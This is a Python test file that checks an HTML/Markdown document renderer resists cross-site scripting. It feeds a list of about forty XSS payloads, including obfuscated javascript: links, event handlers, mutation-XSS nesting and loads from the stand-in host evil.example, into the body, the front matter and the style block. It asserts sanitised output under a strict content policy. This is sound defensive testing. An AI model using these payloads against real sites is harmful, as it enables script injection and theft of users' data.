import re
from pathlib import Path

import pytest
from tests.build import PATH, complete, library
from tests.render.rendered import Page

from sopkit.render.document import render_html, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "text <script>alert(1) more text",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' &#14; javascript:alert(1)'>a</a>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=a><button>Go</button></form>",
    "<object data=x></object><embed src=x>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "x <!--> <img src=x onerror=alert(1)> <!-- -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)>",
    "</main></body></html><script>alert(1)</script>",
    "<div class='banner' id='content' onclick=alert(1)>x</div>",
    "<p class='status ok'>Approved by the CISO</p>",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "[x][\"><script>]\n\n[\"><script>]: javascript:alert(1) 'onmouseover=alert(1)'",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "<video poster=https://evil.example/p src=x></video>",
    "<table background=https://evil.example/b><tr><td>x</table>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<a href='//evil.example' target=_blank rel=opener>a</a>",
]


def check(html: str) -> None:
    page = Page(html)
    assert page.ill == []
    assert page.fetched == []
    assert [(tag, name) for tag, given in page.elements for name in given if name.startswith("on")] == []
    links = [given["href"] or "" for tag, given in page.elements if "href" in given]
    assert [link for link in links if not re.match(r"https?://|#|mailto:|//", link)] == []
    metas = [given for tag, given in page.elements if tag == "meta"]
    assert [given.get("http-equiv") for given in metas if "http-equiv" in given] == ["Content-Security-Policy"]
    assert sum(tag == "style" for tag, _ in page.elements) == 1
    assert sum(given.get("class", "") in {"status ok", "status bad", "banner"} for _, given in page.elements) <= 2
    assert len(page.ids) == len(set(page.ids))
    assert "The end stays." in page.text


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_the_body(tmp_path: Path, attack: str) -> None:
    made = library(tmp_path, {PATH: complete(f"## Scope\n\n{attack}\n\n## Feedback\n\nThe end stays.\n")})
    html = render_html(made.by_path[PATH], made)
    check(html)
    assert html.count("</main>") == 1


@pytest.mark.slow
@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.isprintable()])
@pytest.mark.parametrize("key", ["id", "title", "version", "status", "owner", "summary", "language", "classification"])
def test_attacks_in_the_front_matter(tmp_path: Path, attack: str, key: str) -> None:
    quoted = "'" + attack.replace("'", "''") + "'"
    made = library(tmp_path, {PATH: complete("## Feedback\n\nThe end stays.\n", **{key: quoted})})
    check(render_html(made.by_path[PATH], made))
    assert "<script" not in render_markdown(made.by_path[PATH], made).replace("\\<script", "")


def test_the_style_cannot_be_left(tmp_path: Path) -> None:
    made = library(tmp_path, {PATH: complete(version="'</style><script>alert(1)</script>\"; } @import url(x);'")})
    html = render_html(made.by_path[PATH], made)
    style = html.partition("<style>")[2].partition("</style>")[0]
    assert "script" in style
    assert "<" not in style
    assert "@import" not in style
    assert Page(html).fetched == []


def test_the_page_allows_nothing_from_elsewhere(tmp_path: Path) -> None:
    made = library(tmp_path)
    html = render_html(made.by_path[PATH], made)
    policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert f'<meta http-equiv="Content-Security-Policy" content="{policy}">' in html
    assert "url(" not in html
    assert "@import" not in html
